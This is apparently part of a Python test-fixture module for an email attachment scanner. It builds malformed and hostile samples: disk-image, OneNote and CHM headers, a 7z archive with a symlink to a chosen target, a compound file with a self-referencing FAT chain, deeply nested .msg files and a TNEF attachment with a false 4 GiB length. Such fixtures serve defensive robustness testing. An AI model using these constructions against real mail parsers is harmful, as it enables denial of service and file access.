    return part('Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"\n'
                'Content-Disposition: attachment; filename="smime.p7m"', blob)


# members that are disk images, notebooks or compiled help: each runs or mounts what it holds
ISO_IMAGE = b"\0" * 0x8000 + b"\x01CD001\x01\0" + b" " * 32 + b"CDROM".ljust(32) + b"\0" * 1900
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 1024
CHM = b"ITSF\x03\0\0\0\x60\0\0\0\x01\0\0\0" + b"\0" * 1024


def seven_zip_symlink(target: str) -> bytes:
    """A 7z whose member ``link`` is a symbolic link to ``target`` (py7zr stores a link it finds on disk)."""
    import os
    import tempfile

    import py7zr

    buffer = io.BytesIO()
    with tempfile.TemporaryDirectory(prefix="atkmail-") as folder:
        os.symlink(target, os.path.join(folder, "link"))
        with py7zr.SevenZipFile(buffer, "w") as archive:
            archive.write(os.path.join(folder, "link"), "link")
            archive.writestr(b"hello", "ok.txt")
    return buffer.getvalue()


def cfb_with_fat_loop(data: bytes) -> bytes:
    """The same compound file with the directory's FAT chain pointing at itself (MS-CFB 2.3:
    a reader that follows chains without counting never ends)."""
    raw = bytearray(data)
    directory = struct.unpack_from("<I", raw, 0x30)[0]
    fat_sector = struct.unpack_from("<I", raw, 0x4C)[0]
    struct.pack_into("<I", raw, 512 * (fat_sector + 1) + 4 * directory, directory)
    return bytes(raw)


def deep_msg(depth: int) -> bytes:
    """A .msg holding a .msg holding a .msg …, ``depth`` times (MS-OXMSG embedded message objects)."""
    streams = msg_streams("芯", None, [{"name": "run.txt", "method": 1, "data": b"hello"}], top=False)
    for level in range(depth):
        streams = msg_streams(f"転送{level}", None, [{"name": f"転送{level}", "method": 5, "data": streams}],
                              top=level == depth - 1)
    return compound_file(streams)


def tnef_many(count: int) -> bytes:
    return winmail([(f"a{n}.txt", b"x", []) for n in range(count)])


def tnef_lying_length() -> bytes:
    """attAttachData whose length says 4 GiB and whose data is 3 bytes."""
    out = bytearray(winmail([]))
    out += struct.pack("<BII", 2, 0x0006800F, 0xFFFFFFF0) + b"abc"
    return bytes(out)
